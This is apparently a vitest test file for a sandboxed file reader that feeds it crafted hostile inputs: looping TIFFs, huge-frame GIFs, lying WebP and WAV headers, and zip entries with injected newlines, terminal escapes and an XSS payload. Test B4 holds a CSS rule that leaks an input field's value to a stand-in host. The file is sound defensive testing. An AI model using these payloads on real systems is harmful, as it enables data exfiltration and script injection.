import { readdirSync, readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openScratch } from '#app'
import { showControls, type WallSession } from '#reading'
import { concat, noise, numbers, utf8 } from '../../../../tools/samples/bytes.ts'
import { exifSegment, makeJpeg, makePng } from '../../../../tools/samples/pictures.ts'
import { makeZip } from '../../../../tools/samples/zip.ts'
import { codes, openReader, outcome, read, textOf } from './behind-wall.ts'

let session: WallSession
beforeAll(async () => {
  session = await openReader()
})
afterAll(() => session.close())

/**
 * Ids of the catalogue of hostile inputs (groups A to D) that no test here has in its title, each with what stands in the way. Whoever mends one names
 * it in a test and takes it from this list.
 */
const NOT_YET: Readonly<Record<string, string>> = {
  A39: 'the time a page may take to be recognised is bounded with that of its file',
}

describe('the catalogue of hostile inputs', () => {
  it('has every id of groups A to D in the title of a test, or named as missing with its reason', () => {
    const root = fileURLToPath(new URL('../', import.meta.url))
    const found = new Set<string>()
    for (const entry of readdirSync(root, { recursive: true, encoding: 'utf8' })) {
      if (!entry.endsWith('.test.ts')) continue
      const titles = /\b(?:it|describe)\b[^\n]{0,200}?\(\s*[`'"]((?:[A-D]\d+(?:, )?)+)/g
      for (const [, ids = ''] of readFileSync(`${root}${entry}`, 'utf8').matchAll(titles)) {
        for (const id of ids.split(', ')) found.add(id)
      }
    }
    const all = Object.entries({ A: 40, B: 12, C: 12, D: 16 }).flatMap(([group, count]) =>
      Array.from({ length: count }, (_, i) => `${group}${i + 1}`),
    )
    expect(all.filter((id) => !found.has(id) && NOT_YET[id] === undefined)).toEqual([])
  })
})

describe('a file above the limit', () => {
  it('A3: is refused before anything of it is kept, with the reason', async () => {
    const desk = await openScratch({ version: '0' })
    const told: string[] = []
    const bytes = noise(5000, 1)
    const delivery = { items: [{ kind: 'bytes' as const, given: { name: 'large' }, bytes }], maxFileBytes: 4999 }
    await expect(
      desk.receive(delivery, {
        onReceived: (batch) => {
          for (const one of batch) told.push(one.outcome === 'refused' ? one.because : one.outcome)
        },
      }),
    ).rejects.toMatchObject({ code: 'NOTHING_RECEIVED' })
    expect(told).toEqual(['OVER_LIMIT'])
    expect(await desk.listFiles()).toEqual([])
    await desk.close()
  })
})

/** Two thousand frames of one pixel each; the header says so to whoever walks through it. */
function manyFrames(): Uint8Array {
  const head = concat(
    'GIF89a',
    numbers(true, [2, 1], [2, 1], [1, 0x80], [1, 0], [1, 0]),
    Uint8Array.of(0, 0, 0, 255, 255, 255),
  )
  const frame = Uint8Array.of(0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0)
  return concat(head, ...Array.from({ length: 100_000 }, () => frame), Uint8Array.of(0x3b))
}

/** A TIFF whose directories lead to one another for ever. */
function endlessTiff(): Uint8Array {
  const directory = numbers(true, [2, 1], [2, 256], [2, 4], [4, 1], [4, 9], [4, 8])
  return concat('II*\0', numbers(true, [4, 8]), directory)
}

describe('pictures made to hurt', () => {
  it('A30: a hundred thousand frames, and directories that go in a circle, come to an end', async () => {
    for (const bytes of [manyFrames(), endlessTiff()]) {
      const { reading } = await read(session, bytes)
      expect(['gif', 'tiff']).toContain(reading.kind)
      expect(reading.state).not.toBe('read')
    }
    expect(outcome((await read(session, 'next')).reading)).toBe('read')
  })

  it('A31: pictures with bits bent anywhere are contained, and the next file is read', async () => {
    const whole = [
      makeJpeg([exifSegment(33.5, 36.25, makeJpeg())]),
      makePng(20, 20),
      endlessTiff(),
      concat('BM', numbers(true, [4, 70], [4, 0], [4, 54], [4, 40], [4, 4], [4, 4], [2, 1], [2, 24]), noise(40, 1)),
    ]
    for (const [i, bytes] of whole.entries()) {
      for (let turn = 0; turn < 8; turn += 1) {
        const bent = bytes.slice()
        for (const [at, value] of noise(6, i * 100 + turn).entries()) {
          bent[4 + ((value * 31 + at * 7 + turn) % (bent.length - 4))] = noise(1, turn + at)[0]!
        }
        expect(['partial', 'unread', 'read']).toContain((await read(session, bent)).reading.state)
      }
    }
    expect(outcome((await read(session, 'next')).reading)).toBe('read')
  })

  it('A32: a WebP whose chunks lie about their length is unread, never empty', async () => {
    const webp = concat(
      'RIFF',
      numbers(true, [4, 0x7fffffff]),
      'WEBPVP8 ',
      numbers(true, [4, 0xfffffff0]),
      noise(40, 3),
    )
    const { reading } = await read(session, webp)
    expect([reading.kind, reading.state]).toEqual(['webp', 'unread'])
  })
})

describe('recordings', () => {
  it('A33: one that claims ten hours in a few bytes is kept and named; its claim is not followed', async () => {
    const seconds = 36_000
    const wav = concat(
      'RIFF',
      numbers(true, [4, 36 + seconds * 8000]),
      'WAVEfmt ',
      numbers(true, [4, 16], [2, 1], [2, 1], [4, 8000], [4, 8000], [2, 1], [2, 8]),
      'data',
      numbers(true, [4, seconds * 8000]),
      noise(100, 5),
    )
    const { reading } = await read(session, wav)
    expect([reading.kind, outcome(reading)]).toEqual(['wav', 'unread(unsupported)'])
  })
})

describe('mail and web pages made to tell', () => {
  it('B4: rules that would send what stands in a field are listed by address and are no text', async () => {
    const { reading } = await read(
      session,
      '<html><head><style>input[value^="a"]{background:url(http://t.example/a)} input[value^="b"]{background:url(//t.example/b)}</style></head><body><p>shown</p><input value="a"></body></html>',
    )
    expect(textOf(reading)?.trim()).toBe('shown')
    const told = JSON.stringify(reading.findings.filter(({ code }) => code === 'remote-resource'))
    expect(told).toContain('http://t.example/a')
    expect(told).toContain('//t.example/b')
  })

  it('B6: signatures of mail servers are kept as they stand, and nothing is called valid', async () => {
    const signature = 'v=1; a=rsa-sha256; d=harbour.example; s=k1;\r\n b=dGVzdA=='
    const { reading } = await read(
      session,
      `DKIM-Signature: ${signature}\r\nARC-Seal: i=1; cv=none\r\nAuthentication-Results: mx.example; dkim=pass\r\nFrom: a@harbour.example\r\nSubject: s\r\n\r\nwords\r\n`,
    )
    const said = reading.meta.filter(({ name }) => /^(DKIM-Signature|ARC-Seal|Authentication-Results)$/.test(name))
    expect(said.map(({ name }) => name)).toEqual(['DKIM-Signature', 'ARC-Seal', 'Authentication-Results'])
    expect(said[0]!.value.replace(/\s+/g, ' ')).toBe(signature.replace(/\s+/g, ' '))
    expect(codes(reading)).toEqual([])
  })

  it('B9: what Outlook wraps, visiting cards and invitations are files of their own; their addresses are not followed', async () => {
    const part = (type: string, name: string, body: string): string =>
      `--b\r\nContent-Type: ${type}; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(body, 'latin1').toString('base64')}\r\n`
    const card = 'BEGIN:VCARD\r\nURL:http://t.example/x\r\nPHOTO;VALUE=URI:http://t.example/y\r\nEND:VCARD\r\n'
    const mail = `From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n${part('application/ms-tnef', 'winmail.dat', '\x78\x9f\x3e\x22rest')}${part('text/vcard', 'a.vcf', card)}${part('text/calendar', 'a.ics', 'BEGIN:VCALENDAR\r\nATTACH:http://t.example/z\r\nEND:VCALENDAR\r\n')}--b--\r\n`
    const { children } = await read(session, mail)
    expect(children.map(({ child }) => child.shownName)).toEqual(['winmail.dat', 'a.vcf', 'a.ics'])
    expect(outcome((await read(session, children[0]!.bytes)).reading)).toBe('unread(unsupported)')
    expect(textOf((await read(session, children[1]!.bytes)).reading)).toBe(card)
  })
})

describe('names made to deceive', () => {
  it('C10: line breaks and terminal commands are shown as tokens; mark-up stays letters', async () => {
    const names = ['a\nFrom: x', '\u001b[2J\u001b]0;owned\u0007.txt', '<img src=x onerror=alert(1)>.txt']
    const { children, reading } = await read(session, makeZip(names.map((name) => ({ name, data: utf8('x') }))))
    const shown = children.map(({ child }) => child.shownName ?? '')
    expect(shown).toEqual(names.map(showControls))
    expect(shown.join('')).not.toMatch(/\p{Cc}/u)
    expect(shown[2]).toBe(names[2])
    expect(JSON.stringify(reading.findings)).not.toMatch(/\\u001b|\\n/)
  })
})
